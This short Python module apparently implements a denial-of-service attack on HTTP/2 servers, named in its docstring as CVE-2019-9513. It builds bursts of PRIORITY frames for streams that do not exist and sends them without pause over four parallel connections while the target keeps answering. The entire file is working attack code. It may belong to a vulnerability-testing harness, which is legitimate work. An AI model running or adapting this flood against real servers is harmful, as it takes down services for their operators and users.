"""PRIORITY frames without end, of streams that are not there (CVE-2019-9513)."""

import struct

from wire.http2 import PRIORITY, frame, http2


async def attack(target):
    burst = b"".join(frame(PRIORITY, 0, 2 * n + 3, struct.pack(">IB", 2 * n + 1, n % 256)) for n in range(1000))

    async def lane(number):
        async with http2(target, target.source(number)) as it:
            while it and target.goes_on():
                await it.send(burst)

    await target.lanes(4, lane)
